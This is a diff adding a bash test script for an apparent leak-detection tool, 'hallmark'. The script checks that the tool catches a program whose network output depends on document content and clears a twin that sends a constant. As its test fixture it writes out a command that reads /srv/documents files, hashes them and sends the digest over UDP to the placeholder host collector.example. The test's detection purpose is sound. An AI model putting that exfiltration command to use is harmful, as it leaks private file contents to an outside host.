@@ -1,0 +1,64 @@
+#!/bin/bash
+# An experiment with a program that sends a digest of a document in a field of its own, and with its twin, which sends a
+# constant there: the first depends on content, and the findings say which field; nothing of the second does. Both bundles are
+# verified, every document made again from the seed.
+#   experiment.sh BUILD
+set -u
+hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify")
+[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP needs root"; exit 0; }
+work=$(mktemp -d /var/tmp/hallmark-experiment-XXXXXX)
+export HALLMARK_WORK=$work/w
+trap 'rm -rf "$work"' EXIT
+n=0 failed=0
+result() { # CONDITION-EXIT TEXT
+	n=$((n + 1))
+	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
+}
+"$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
+send='value=$(%s); printf "Op: report\nValue: %%s\nNonce: %%s\n" "$value" "$RANDOM" >/dev/udp/collector.example/9000'
+leak=$(printf "$send" "rev /srv/documents/note* | md5sum | cut -c 1-16")
+twin=$(printf "$send" "wc -c </srv/documents/note*")
+assess() { # NAME COMMAND
+	timeout 240 "$hallmark" assess --key "$work/key.pem" --pairs 8 --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
+}
+ask() { # NAME EXPRESSION: of the findings `f`, must be true
+	/usr/bin/python3 -c "
+import json, sys
+f = json.load(open(sys.argv[1]))
+content = next(c for c in f['claims'] if c['id'] == 'collect.content')
+whole = lambda row: row['constant'] + row['explained'] + row['unaccounted'] + sum(i['bytes'] for i in row['influenced'])
+sys.exit(0 if $2 else 1)" "$work/$1.json"
+}
+verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said" && false || ! grep -q FALSE "$work/said" && grep -q 'sets, made again from the seed' "$work/said"; }
+
+assess leak "$leak"
+result "$([ $? = 1 ]; echo $?)" "a leak is refuted"
+sed 's/^/# /' "$work/leak.err" | head -n 5
+ask leak "content['reason'] == 'influence.confirmed' and content['values']['features'] == 1"
+result $? "... by a confirmed influence"
+ask leak "[(i['factor'], i['endpoint'], i['feature'], i['grade']) for i in f['influence']] == [('content', 'collector.example:9000/udp', '0.0.line.value', 'dependent')]"
+result $? "... and by the name of the field, of nothing else"
+ask leak "f['influence'][0]['p'] == {'b': 1, 'm': 255, 'family': 1, 'phase': 'confirm'}"
+result $? "... with the least p that eight pairs can have"
+ask leak "all(whole(row) == row['wire'] for row in f['ledger']) and f['ledger']"
+result $? "... every byte stands in one class"
+verified leak
+result $? "... its bundle verifies, documents and findings made again"
+
+assess twin "$twin"
+result "$([ $? = 2 ]; echo $?)" "its twin is not"
+sed 's/^/# /' "$work/twin.err" | head -n 5
+ask twin "content['verdict'] == 'not verifiable' and content['reason'] == 'bytes.unexplained' and not f['influence']"
+result $? "... nothing depends on content, and bytes that are not explained are counted"
+ask twin "all(whole(row) == row['wire'] for row in f['ledger']) and f['ledger']"
+result $? "... every byte stands in one class"
+verified twin
+result $? "... its bundle verifies"
+
+for bad in "--pairs 6" "--pairs x" "--factors content" "--pairs 8 --factors nonsense" "--pairs 8 --factors content,content" "--pairs 8 --factors host.kernel"; do
+	# shellcheck disable=SC2086
+	"$hallmark" assess --key "$work/key.pem" $bad -o "$work/bad.hallmark" -- true >/dev/null 2>"$work/err"
+	result "$([ $? = 3 ] && [ "$(wc -l <"$work/err")" = 1 ] && [ ! -e "$work/bad.hallmark" ]; echo $?)" "$bad is refused"
+done
+echo "1..$n"
+exit $failed
